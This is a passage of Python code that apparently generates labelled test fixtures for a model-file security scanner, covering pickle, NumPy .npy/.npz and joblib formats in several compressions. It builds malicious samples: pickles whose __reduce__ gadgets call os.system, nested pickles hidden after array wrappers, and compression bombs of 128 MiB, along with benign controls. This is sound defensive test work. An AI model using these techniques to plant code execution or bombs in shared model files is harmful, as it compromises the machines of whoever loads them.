    sample("numpy/structured.npy", npy([("a", "<i4"), ("b", "<f8")], (2,), b"\x00" * 24), P, [], "structured dtype without objects")
    obj = npy("|O", (2,), pickle.dumps(["hello", 3], protocol=3))
    sample("numpy/object-benign.npy", obj, W, ["NUMPY_OBJECT_ARRAY"], "object array (needs allow_pickle) with harmless content")
    evil = npy("|O", (1,), pickle.dumps([Gadget(os.system, MARKER)], protocol=3))
    sample("numpy/object-malicious.npy", evil, B, ["PICKLE_CODE_EXECUTION", "NUMPY_OBJECT_ARRAY"], "object array whose pickle calls os.system")
    sample("numpy/structured-object-field.npy", npy([("a", "<i4"), ("b", "|O")], (1,), pickle.dumps([(1, Gadget(os.system, MARKER))], protocol=3)), B,
           ["PICKLE_CODE_EXECUTION"], "structured dtype with an object field")
    sample("numpy/trailing-pickle.npy", floats + pickle.dumps(Gadget(os.system, MARKER), protocol=2), B, ["NUMPY_TRAILING_DATA"], "pickle appended after the array data")
    sample("numpy/truncated.npy", floats[:-8], B, ["NUMPY_DATA_SIZE"], "array data shorter than the header says")
    sample("numpy/bad-header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 20) + b"{'descr': __import__}", B, ["NUMPY_HEADER_INVALID"], "header that is not a literal")

    def npz(members):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in members.items():
                z.writestr(name, data)
        return buf.getvalue()

    sample("numpy/arrays.npz", npz({"a.npy": floats, "b.npy": npy("<i8", (2,), struct.pack("<2q", 1, 2))}), P, [], ".npz of float arrays")
    sample("numpy/object-malicious.npz", npz({"a.npy": floats, "evil.npy": evil}), B, ["PICKLE_CODE_EXECUTION", "NUMPY_OBJECT_ARRAY"], ".npz with a malicious object-array member")


def lz4_frame(data):
    """An LZ4 frame (the format lz4.frame writes) of stored 64 KiB blocks; the last one literal-only compressed."""
    out = bytearray(lz4_header(0x60, 0x40))
    blocks = [data[i:i + 65536] for i in range(0, len(data), 65536)] or [b""]
    for k, block in enumerate(blocks):
        if k == len(blocks) - 1 and 15 <= len(block) < 65536:
            n = len(block) - 15
            ext = b"\xff" * (n // 255) + bytes([n % 255])
            body = b"\xf0" + ext + block
            out += struct.pack("<I", len(body)) + body
        else:
            out += struct.pack("<I", len(block) | 0x80000000) + block
    return bytes(out + b"\x00\x00\x00\x00")


def xxh32_short(data, seed=0):
    """xxHash32 of fewer than 16 bytes (the LZ4 frame descriptor checksum)."""
    p1, p2, p3, p4, p5, m = 2654435761, 2246822519, 3266489917, 668265263, 374761393, 0xFFFFFFFF
    rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & m  # noqa: E731
    assert len(data) < 16
    h, i = (seed + p5 + len(data)) & m, 0
    while i + 4 <= len(data):
        h = rotl((h + int.from_bytes(data[i:i + 4], "little") * p3) & m, 17) * p4 & m
        i += 4
    for b in data[i:]:
        h = rotl((h + b * p5) & m, 11) * p1 & m
    h ^= h >> 15
    h = h * p2 & m
    h ^= h >> 13
    h = h * p3 & m
    return h ^ (h >> 16)


def lz4_header(flg, bd):
    return b"\x04\x22\x4d\x18" + bytes([flg, bd, (xxh32_short(bytes([flg, bd])) >> 8) & 0xFF])


def lz4_zero_frame(blocks, size):
    """An LZ4 frame of a pickle holding blocks * size zero bytes (BINBYTES8): each zero block is one literal and one long match."""
    rest = size - 1 - 4 - 15
    block = b"\x1f\x00\x01\x00" + b"\xff" * (rest // 255) + bytes([rest % 255])
    head = b"\x80\x04\x8e" + struct.pack("<Q", blocks * size)
    stored = lambda d: struct.pack("<I", len(d) | 0x80000000) + d  # noqa: E731
    return lz4_header(0x60, 0x70) + stored(head) + (struct.pack("<I", len(block)) + block) * blocks + stored(b".") + b"\x00\x00\x00\x00"


def joblib_samples(f):
    B, P = "block", "pass"
    model = f.LogisticRegression()
    model.coef_ = f.ndarray("<f8", (1, 4), struct.pack("<4d", 0.1, 0.2, 0.3, 0.4))
    model.classes_ = f.ndarray("<i8", (2,), struct.pack("<2q", 0, 1))
    plain = joblib_dump(model, f, [])
    sample("joblib/logreg.joblib", plain, P, [], "joblib dump of a scikit-learn model (NumpyArrayWrapper + raw array bytes)")
    sample("joblib/logreg-zlib.joblib", zlib.compress(plain, 3), P, [], "zlib-compressed joblib file")
    sample("joblib/logreg-gzip.joblib", gzip.compress(plain), P, [], "gzip-compressed joblib file")
    sample("joblib/logreg-plain-pickle.pkl", pickle.dumps(f.LogisticRegression(), protocol=4), P, [], "scikit-learn model written with pickle.dump")
    model.penalty = Gadget(os.system, MARKER)
    evil = joblib_dump(model, f, [])
    sample("joblib/malicious.joblib", evil, B, ["PICKLE_CODE_EXECUTION"], "joblib file with a __reduce__ gadget")
    sample("joblib/malicious-zlib.joblib", zlib.compress(evil, 3), B, ["PICKLE_CODE_EXECUTION"], "zlib-compressed malicious joblib file")
    # joblib's other compressors: decompressed as a stream (bounded) and scanned.
    packers = {
        "bz2": lambda d: bz2.compress(d, 9),
        "xz": lambda d: lzma.compress(d, format=lzma.FORMAT_XZ, preset=1),
        "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE, preset=1),
        "lz4": lz4_frame,
    }
    for name, pack in packers.items():
        sample(f"joblib/logreg-{name}.joblib", pack(plain), P, [], f"{name}-compressed joblib file (decompressed and scanned)", "joblib")
        sample(f"joblib/malicious-{name}.joblib", pack(evil), B, ["PICKLE_CODE_EXECUTION"], f"{name}-compressed joblib file with a __reduce__ gadget", "joblib")
    def bomb(pack, mib=128):
        """A pickle holding `mib` MiB of zero bytes (BINBYTES8), as concatenated compressed streams (which joblib reads)."""
        piece = 8 * 1024 * 1024
        body = pack(bytes(piece))
        return pack(b"\x80\x04\x8e" + struct.pack("<Q", mib * 1024 * 1024)) + body * (mib // 8) + pack(b".")

    sample("joblib/bomb-bz2.joblib", bomb(lambda d: bz2.compress(d, 9)), B, ["COMPRESSION_BOMB"], "bz2 joblib expanding 128 MiB from a few kilobytes", "joblib")
    sample("joblib/bomb-xz.joblib", bomb(lambda d: lzma.compress(d, format=lzma.FORMAT_XZ, preset=1)), B, ["COMPRESSION_BOMB"], "xz joblib expanding far past the ratio limit", "joblib")
    sample("joblib/bomb-lz4.joblib", lz4_zero_frame(32, 4 * 1024 * 1024), B, ["COMPRESSION_BOMB"], "lz4 joblib whose blocks each expand to 4 MiB", "joblib")
    # Object array inside joblib: a nested pickle right after the wrapper.
    m2 = f.LogisticRegression()
    m2.classes_ = f.ndarray("|O", (1,), b"")
    buf = io.BytesIO()

    class JP(pickle._Pickler):
        def save(self, o, save_persistent_id=True):
            if isinstance(o, f.ndarray):
                pickle._Pickler.save(self, f.NumpyArrayWrapper(o.shape, "O8"))
                if self.proto >= 4:
                    self.framer.commit_frame(force=True)
                pickle.dump([Gadget(os.system, MARKER)], buf, protocol=2)
                return
            return pickle._Pickler.save(self, o, save_persistent_id)

    JP(buf, protocol=4).dump(m2)
    sample("joblib/object-array-nested-pickle.joblib", buf.getvalue(), B, ["PICKLE_CODE_EXECUTION"], "joblib object array: nested pickle after the wrapper")
    # Raw "array bytes" that pickle.load (not joblib.load) would run as opcodes.
    # (joblib < 1.2 layout: no padding byte, so the bytes right after the wrapper are the array.)
    payload = call("os", "system", u(MARKER)) + b"0"
    m3b = f.LogisticRegression()
    m3b.coef_ = f.ndarray("|u1", (len(payload),), payload)
    b2 = io.BytesIO()

    class OldJP(pickle._Pickler):
        def save(self, o, save_persistent_id=True):
            if isinstance(o, f.ndarray):
                w = f.NumpyArrayWrapper(o.shape, o.typestr)
                del w.numpy_array_alignment_bytes
                pickle._Pickler.save(self, w)
                if self.proto >= 4:
                    self.framer.commit_frame(force=True)
                b2.write(o.raw)
                return
            return pickle._Pickler.save(self, o, save_persistent_id)

    OldJP(b2, protocol=4).dump(m3b)
    sample("joblib/array-bytes-run-by-pickle-load.joblib", b2.getvalue(), B, ["PICKLE_CODE_EXECUTION"],
           "array bytes that are harmless to joblib.load but a gadget to pickle.load")


def generate(out_dir):
    global OUT
    OUT = out_dir
    LABELS.clear()
    try:
        f = make_fakes()
        raw_pickles()
        benign_pickles(f)
        torch_samples(f)
        numpy_samples(f)
        joblib_samples(f)
    finally:
        restore_modules()
    return list(LABELS)


if __name__ == "__main__":
    import json

    labels = generate(sys.argv[1])
    print(json.dumps(labels, indent=1))
